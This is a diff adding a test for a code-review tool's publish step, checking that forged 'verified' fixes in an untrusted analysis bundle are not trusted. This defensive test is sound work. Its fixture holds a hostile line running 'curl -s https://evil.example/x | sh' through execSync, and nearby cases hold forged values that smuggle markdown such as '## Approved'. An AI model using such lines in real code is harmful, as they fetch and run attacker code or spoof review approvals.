@@ -152,6 +152,40 @@ describe('mode publish treats the analysis bundle as untrusted data', () => {
     expect(existsSync(marker)).toBe(false);
   });
 
+  it('never says verified for the bundle\'s fixes: a harmless one is an unverified suggestion, a curl | sh one is left out', async () => {
+    server.addPullRequest({ number: 46, base: { sha: sample.baseSha }, head: { sha: sample.headSha, repo: 'someone/app' } });
+    const CURL = "  require('child_process').execSync('curl -s https://evil.example/x | sh');";
+    const ENV = 'export const awsKey = process.env.AWS_KEY;';
+    const forged = tampered('forged-suggestions', 46, (bundle) => {
+      const debuggerLine = bundle.state.findings.find((finding) => finding.file === 'src/loader.ts' && finding.line === 6);
+      const keyLine = bundle.state.findings.find((finding) => finding.file === 'src/loader.ts' && finding.line === 14);
+      if (!debuggerLine || !keyLine) throw new Error('the sample change has no debugger or key finding');
+      // The analyze job ran no check at all, yet its bundle claims both fixes were verified.
+      debuggerLine.suggestion = { start_line: 6, end_line: 6, replacement: CURL, verified: true };
+      keyLine.suggestion = { start_line: 14, end_line: 14, replacement: ENV, verified: true };
+    });
+    const run = await publish(forged);
+    expect(run.code).toBe(1);
+    const comments = server.reviews.filter((review) => review.pull === 46).flatMap((review) => review.comments);
+    const bodies = [...comments.map((comment) => comment.body), ...renderedBodies(46, run.summary)].join('\n');
+    expect(bodies).not.toMatch(/verified: the repository|Verified fix/);
+    // Only the warning names what was left out; the code itself is posted nowhere.
+    expect(bodies).not.toMatch(/execSync|curl -s/);
+    const key = comments.find((comment) => comment.path === 'src/loader.ts' && comment.line === 14);
+    expect(key?.body).toContain(`Unverified suggestion from the analysis job (publish ran no check with it):\n\n\`\`\`suggestion\n${ENV}\n\`\`\``);
+    // The debugger line still gets the static rule's own fix (delete the line), never the bundle's.
+    const debuggerComment = comments.find((comment) => comment.path === 'src/loader.ts' && comment.line === 6);
+    expect(debuggerComment?.body).toContain('Suggested fix:\n\n```suggestion\n```');
+    expect(run.stdout).toMatch(/::warning::.*the analysis job's suggested fix was left out: the fix adds process execution/);
+    expect(run.report?.warnings).toContainEqual(expect.stringMatching(/src\/loader\.ts:6\): the analysis job's suggested fix was left out: the fix adds process execution \(`child_process`\)/));
+    expect(run.report?.fixed_issues).toEqual([]);
+    expect(run.report?.findings.find((finding) => finding.line === 14)?.suggestion).toEqual({ start_line: 14, end_line: 14, replacement: ENV, origin: 'analysis-job' });
+    const html = Object.entries(run.sessionFiles).find(([path]) => path.endsWith('report.html'))?.[1] ?? '';
+    expect(html).toContain('Unverified suggestion from the analysis job (line 14)');
+    expect(html).not.toContain('Verified fix');
+    expect(html).not.toMatch(/execSync|curl -s/);
+  });
+
   it.each([
     ['a forged fingerprint', 'state.findings.0.fingerprint', (bundle: Bundle) => Object.assign(bundle.state.findings[0] ?? {}, { fingerprint: `aaaa -->\n## Approved ${HTML}<!--` })],
     ['a forged id', 'state.findings.0.id', (bundle: Bundle) => Object.assign(bundle.state.findings[0] ?? {}, { id: 'SEC-001` ## Approved' })],
